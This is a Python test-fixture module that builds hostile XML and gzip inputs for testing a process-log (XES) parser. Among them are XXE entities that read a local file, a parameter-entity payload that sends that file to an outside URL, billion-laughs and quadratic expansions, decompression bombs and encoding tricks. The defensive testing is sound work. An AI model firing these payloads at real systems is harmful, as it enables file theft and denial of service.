"""Logs that mean harm: each is refused, or read without doing what it asks for."""

import gzip
import io
import zlib

BODY = '<log xes.version="1.0"><trace><string key="concept:name" value="{0}"/><event/></trace></log>'


def _typed(inside: str, use: str = "", encoding: str = "utf-8") -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE log {inside}>{BODY.format(use)}'
    return text.encode(encoding)


def _entities(*pairs: tuple[str, str]) -> str:
    return "[" + "".join(f'<!ENTITY {name} "{value}">' for name, value in pairs) + "]"


def _laughs(base: int, depth: int) -> bytes:
    levels = [("a0", "ha")] + [(f"a{n}", f"&a{n - 1};" * base) for n in range(1, depth)]
    return _typed(_entities(*levels), f"&a{depth - 1};")


def _quadratic() -> bytes:
    return _typed(_entities(("a", "x" * 100_000)), "&a;" * 20_000)


def _bomb(inside: bytes, times: int, wrap: bytes = b"<log>") -> bytes:
    file = io.BytesIO()
    with gzip.GzipFile(fileobj=file, mode="wb") as packed:
        packed.write(wrap)
        for _number in range(times):
            packed.write(inside)
    return file.getvalue()


def _nested_gzip() -> bytes:
    return gzip.compress(_bomb(b" " * 1_000_000, 100))


def _lying_gzip() -> bytes:
    data = bytearray(gzip.compress(BODY.format("x").encode()))
    data[-4:] = (0).to_bytes(4, "little")
    return bytes(data)


def corpus(url: str, file: str) -> dict[str, bytes]:
    """Every hostile file by its name; `url` is where a canary listens, `file` one that must not be read."""
    plain = BODY.format("x").encode()
    dtd = f'SYSTEM "{url}/log.dtd"'
    return {
        "external file as an entity": _typed(f'[<!ENTITY x SYSTEM "file://{file}">]', "&x;"),
        "external address as an entity": _typed(f'[<!ENTITY x SYSTEM "{url}/x">]', "&x;"),
        "external file in an attribute": _typed(f'[<!ENTITY x SYSTEM "file://{file}">]'),
        "parameter entity from an address": _typed(f'[<!ENTITY % x SYSTEM "{url}/x"> %x;]'),
        "parameter entity that sends a file away": _typed(
            f'[<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % x "<!ENTITY y SYSTEM \'{url}/?%f;\'>"> %x;]', "&y;"
        ),
        "document type at an address": _typed(dtd),
        "public document type": _typed(f'PUBLIC "-//X//Y" "{url}/log.dtd"'),
        "document type alone": _typed("[]"),
        "document type in UTF-16": _typed(dtd)
        .decode()
        .replace('version="1.0"?', 'version="1.0" encoding="UTF-16"?')
        .encode("utf-16"),
        "document type after a long comment": b"<!--" + b"x" * 200_000 + b"-->" + _typed(dtd)[38:],
        "default value at an address": _typed(f'[<!ATTLIST log x CDATA "&y;"><!ENTITY y SYSTEM "{url}/y">]'),
        "billion laughs": _laughs(10, 10),
        "billion laughs in a default value": _typed(
            _entities(("a0", "ha"), *((f"a{n}", f"&a{n - 1};" * 10) for n in range(1, 10)))[:-1]
            + '<!ATTLIST log x CDATA "&a9;">]'
        ),
        "quadratic blow-up": _quadratic(),
        "an entity within itself": _typed(_entities(("a", "&b;"), ("b", "&a;")), "&a;"),
        "parameter entities that grow": _typed(
            "[<!ENTITY % a0 'ha'>"
            + "".join(f"<!ENTITY % a{n} '%a{n - 1};%a{n - 1};'>" for n in range(1, 40))
            + "%a39;]"
        ),
        "a hundred thousand declarations": _typed(_entities(*((f"e{n}", "x") for n in range(100_000)))),
        "an entity that nobody declared": BODY.format("&nobody;").encode(),
        "another file included": plain.replace(
            b"</log>",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x"/>'.encode() + b"<x></log>",
        ),
        "deep attributes": b"<log>" + b'<string key="a" value="b">' * 200_000,
        "deep attributes that end": b"<log>" + b'<string key="a" value="b">' * 250 + b"</string>" * 250 + b"</log>",
        "deep traces": b"<log>" + b"<trace>" * 100_000,
        "deep lists": b"<log>" + b"<list><values>" * 100 + b"</values></list>" * 100 + b"</log>",
        "a name of ten million letters": b"<log><" + b"x" * 10_000_001 + b"/></log>",
        "a value of twelve million letters": b'<log><string key="a" value="' + b"x" * 12_000_000 + b'"/></log>',
        "three hundred thousand attributes on one element": b"<log " + b"".join(b'a%d="" ' % n for n in range(300_000)),
        "packed spaces without end": _bomb(b" " * 1_000_000, 1_000),
        "packed traces without end": _bomb(b"<trace/>" * 100_000, 1_000),
        "packed comment without end": _bomb(b"x" * 1_000_000, 600, b"<log><!--"),
        "packed twice": _nested_gzip(),
        "packed, with another length": _lying_gzip(),
        "packed, cut off": gzip.compress(plain * 50)[:-9],
        "packed, broken": gzip.compress(plain)[:12] + b"\xff" * 40,
        "packed nothing": gzip.compress(b""),
        "not gzip at all": b"\x1f\x8b" + zlib.compress(plain),
        "zero bytes": plain.replace(b"x", b"\0"),
        "half a character": plain.replace(b"x", b"\xc3"),
        "an unknown encoding": b'<?xml version="1.0" encoding="x-secret"?>' + plain,
        "document type in UTF-7": _typed(dtd, encoding="utf-7").replace(b"<!", b"+ADwAIQ-"),
        "UTF-16 without its mark": plain.decode().encode("utf-16-be"),
        "a second root": plain + plain,
        "a namespace from elsewhere": plain.replace(b"<log", f'<x:log xmlns:x="{url}"'.encode()),
        "a line of only angle brackets": b"<" * 1_000_000,
        "binary": bytes(range(256)) * 1000,
        "nothing": b"",
    }


def harmless(url: str) -> dict[str, bytes]:
    """Files that name an address and ask for nothing: they are read, and the address is not visited."""
    schema = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation='
    included = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x" key="a"/>'
    changes = {
        "a stylesheet at an address": ("<log", f'<?xml-stylesheet href="{url}/x.xsl"?><log'),
        "a schema at an address": ("<log", f'<log {schema}"{url}/x"'),
        "an extension at an address": ("<trace>", f'<extension name="X" prefix="x" uri="{url}/x.xesext"/><trace>'),
        "another file included": ("</trace>", f"{included}</trace>"),
    }
    return {name: BODY.format("x").replace(*change).encode() for name, change in changes.items()}
